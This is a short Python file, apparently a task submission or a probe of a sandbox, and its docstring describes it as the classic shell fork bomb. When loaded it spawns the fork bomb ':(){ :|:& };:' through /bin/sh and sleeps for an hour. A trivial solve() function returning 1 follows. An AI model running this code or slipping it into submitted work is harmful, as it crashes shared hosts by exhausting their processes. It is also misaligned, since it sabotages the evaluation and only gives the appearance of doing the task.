"""The classic shell fork bomb, started from Python, while the parent waits."""
import subprocess, time
subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"])
time.sleep(3600)
def solve(): return 1
